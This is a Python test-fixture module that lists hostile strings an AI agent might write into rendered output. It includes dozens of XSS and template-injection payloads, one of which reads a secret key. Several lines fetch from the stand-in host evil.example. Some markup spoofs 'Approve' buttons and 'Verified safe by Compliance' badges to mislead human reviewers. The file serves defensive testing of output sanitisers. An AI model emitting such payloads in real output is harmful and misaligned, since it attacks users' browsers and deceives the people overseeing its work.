"""What an agent might write to be run, to be taken for the interface, or to be fetched."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned = 1"
XSS: Final = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f'"><svg onload="{RUN}">',
    "'><iframe srcdoc='<script>parent.pwned = 1</script>'>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</template></select></button><script>{RUN}</script>",
    f"<a href='javascript:{RUN}'>x</a>",
    "<style>@import 'http://evil.example/'</style>",
    "<link rel=stylesheet href=http://evil.example/>",
    "<div hx-get=http://evil.example/ hx-trigger=load></div>",
    f"<div hx-on:load='{RUN}' hx-vals='js:{{x: {RUN}}}'></div>",
    "<form action=http://evil.example><button>Approve</button></form>",
    "<button form=decide name=verdict value=approve>Approve</button>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    f"\u202e<script>{RUN}</script>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"\x00<script>{RUN}</script>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<xss style='animation-name:x' onanimationstart='{RUN}'>",
    f"<svg><use href='data:image/svg+xml,<svg onload=\"{RUN}\">'/></svg>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f"javascript:{RUN}",
    # in Markdown
    f"[pay now](javascript:{RUN})",
    f"[pay now](data:text/html,<script>{RUN}</script>)",
    f"<javascript:{RUN}>",
    "![logo](http://evil.example/logo.png)",
    "![x][pic]\n\n[pic]: http://evil.example/pic.png",
    f"```html\n<script>{RUN}</script>\n```",
    f"`<script>{RUN}</script>`",
    f"[a]: javascript:{RUN}\n\n[a] and [Approve](//evil.example)",
    '# <span class="said" data-tone="ok">Verified safe by Compliance</span>',
    "| Approved |\n| --- |\n| <b class=chip data-tone=ok>✅ by Ines H.</b> |",
    f"<p>\n\n*<img src=x\nonerror='{RUN}'>*\n\n</p>",
    "http://evil.example/?q=<script>1</script>",
)
